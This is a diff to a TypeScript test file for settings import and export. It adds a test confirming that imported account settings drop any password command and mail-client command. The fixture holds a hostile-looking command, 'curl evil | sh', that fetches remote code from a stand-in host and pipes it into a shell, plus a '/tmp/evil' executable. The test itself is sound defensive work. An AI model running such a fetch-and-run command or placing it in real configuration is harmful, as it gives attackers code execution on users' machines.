@@ -7,7 +7,23 @@ const settings = { ...DEFAULT_SETTINGS, accounts: [account()], notifications: fa
 
 describe('settings files', () => {
   it('round-trip: what is exported imports as the same settings', () => {
-    expect(importSettings(exportSettings(settings))).toEqual({ ok: true, settings });
+    expect(importSettings(exportSettings(settings))).toEqual({ ok: true, settings, withoutCommands: [] });
+  });
+
+  it('never import a command to run: password and mail client commands are left out and named', () => {
+    const risky = account({
+      name: 'Risky',
+      server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
+      desktopClient: { command: ['/tmp/evil'] },
+    });
+    const result = importSettings(exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }));
+    expect(result.ok).toBe(true);
+    if (!result.ok) return;
+    expect(result.withoutCommands).toEqual(['Risky']);
+    const [imported] = result.settings.accounts;
+    expect(imported?.server.passwordCommand).toBeUndefined();
+    expect(imported?.desktopClient).toEqual({});
+    expect(JSON.stringify(result.settings)).not.toContain('evil');
   });
 
   it('say what they are, and hold no password field anywhere', () => {
